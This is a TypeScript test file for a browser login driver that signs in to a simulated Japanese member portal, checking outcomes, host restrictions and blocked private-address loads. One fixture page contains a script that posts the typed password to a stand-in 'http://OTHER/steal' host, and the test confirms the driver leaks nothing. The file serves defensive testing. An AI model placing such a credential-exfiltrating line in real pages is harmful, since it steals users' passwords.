// The browser driver with a real Chromium: pages made by script, the same signs, and a password that reaches the portal alone.
import { createServer, type IncomingMessage, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { type ReGuideSite, startReGuideSite } from '../../../simulator/re-guide/start.ts';
import { testBrowser } from '../../../test/support/browser.ts';
import { login as reGuide } from '../../portals/re-guide/login.ts';
import { openBrowserDriver } from './browser-driver.ts';
import type { LoginDriver } from './driver.ts';

const WAIT = { timeout: 120_000 };
/** The program stays up. */
const STAYING = new AbortController().signal;
const account = { userId: 'mihon-本店', password: 'ひみつ "right"' };
let site: ReGuideSite;
let browser: Awaited<ReturnType<typeof testBrowser>>;
const servers: Server[] = [];
beforeAll(async () => {
  browser = await testBrowser();
  site = await startReGuideSite();
}, 120_000);
afterAll(() => site.stop());
beforeEach(() => {
  site.open(account);
  site.set(null);
});
afterEach(() => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    server.close();
  }
});

/** A site of our own; resolves with its host and port. */
async function serve(listener: RequestListener): Promise<string> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((up) => server.listen(0, '127.0.0.1', up));
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}
async function bodyOf(request: IncomingMessage): Promise<string> {
  let body = '';
  for await (const chunk of request) body += chunk;
  return body;
}
async function signIn(url: string, given: { password?: string; allow?: string[] } = {}) {
  const driver: LoginDriver = openBrowserDriver({ ...browser, allow: given.allow ?? [new URL(url).host] });
  let left = 0;
  const { outcome, session } = await driver.signIn(
    { ...reGuide, by: 'browser', url },
    { ...account, ...(given.password && { password: given.password }) },
    {
      beforeSubmit: async () => void left++,
      onAnswer: async () => {},
      signal: new AbortController().signal,
    },
  );
  return { outcome, session, left };
}

test('it signs in where plain HTTP does, too, and opens pages of the site alone', WAIT, async () => {
  const { outcome, session, left } = await signIn(site.loginUrl);
  expect([outcome, left]).toEqual(['verified', 1]);
  expect(await session?.open(new URL('/member/', site.url), STAYING)).toMatchObject({
    ok: true,
    html: expect.stringContaining('ログアウト'),
  });
  expect(await session?.open(new URL('https://www.example.com/'), STAYING)).toEqual({
    ok: false,
    why: 'elsewhere',
  });
  site.signOutAll();
  expect(await session?.open(new URL('/member/', site.url), STAYING)).toEqual({
    ok: false,
    why: 'signed-out',
  });
  await session?.close();
});

test('a wrong password is wrong; what went wrong after it left is not unavailable', WAIT, async () => {
  expect(await signIn(site.loginUrl, { password: 'x' })).toMatchObject({
    outcome: 'wrong-credentials',
    left: 1,
  });
  site.set('error', { on: 'answer' });
  expect(await signIn(site.loginUrl)).toMatchObject({ outcome: 'interrupted', left: 1 });
  site.set('error', { on: 'form' });
  expect(await signIn(site.loginUrl)).toMatchObject({ outcome: 'unavailable', left: 0 });
  expect(site.attempts).toHaveLength(3);
});

const SCRIPTED = `<!doctype html><meta charset=utf-8><div id=app></div><p id=hint style="display:none">IDまたはパスワードが違います</p>
<script>
setTimeout(() => {
  app.innerHTML = '<form><input name=login_id><input name=password type=password><button>ログイン</button></form>';
  document.forms[0].onsubmit = async (event) => {
    event.preventDefault();
    const { login_id, password } = document.forms[0];
    fetch('http://OTHER/steal', { method: 'POST', mode: 'no-cors', body: password.value }).catch(() => {});
    const answer = await fetch('/session', { method: 'POST', body: JSON.stringify([login_id.value, password.value]) });
    app.innerHTML = answer.ok ? '<a href="/logout">ログアウト</a>' : '<p>IDまたはパスワードが違います</p><input type=password>';
  };
}, 300);
</script>`;

test(
  'a form made by script is filled in and its answer watched, while other sites hear nothing',
  WAIT,
  async () => {
    const stolen: string[] = [];
    const other = await serve(async (request, answer) => {
      stolen.push(await bodyOf(request));
      answer.end();
    });
    const sent: string[] = [];
    const host = await serve(async (request, answer) => {
      if (request.url !== '/session')
        return answer.setHeader('content-type', 'text/html').end(SCRIPTED.replace('OTHER', other));
      const body = await bodyOf(request);
      sent.push(body);
      answer.statusCode = body === JSON.stringify([account.userId, account.password]) ? 200 : 401;
      answer.end();
    });
    const allow = [host, other];
    const right = await signIn(`http://${host}/login`, { allow });
    expect([right.outcome, right.left]).toEqual(['verified', 1]);
    await right.session?.close();
    expect((await signIn(`http://${host}/login`, { allow, password: 'x' })).outcome).toBe(
      'wrong-credentials',
    );
    expect(sent).toHaveLength(2);
    expect(stolen).toEqual([]);
  },
);

test('it calls public addresses alone, also for what a page embeds', WAIT, async () => {
  let called = 0;
  const inside = await serve((_, answer) => {
    called++;
    answer.end();
  });
  expect(await signIn(`http://${inside}/login`, { allow: [] })).toMatchObject({
    outcome: 'site-changed',
    left: 0,
  });
  const host = await serve((_, answer) =>
    answer
      .setHeader('content-type', 'text/html; charset=utf-8')
      .end(`<h1>メンテナンス中</h1><img src="http://${inside}/x">
      <iframe src="http://${inside}/y"></iframe><script src="http://${inside}/z"></script>`),
  );
  expect((await signIn(`http://${host}/login`)).outcome).toBe('unavailable');
  expect(called).toBe(0);
});
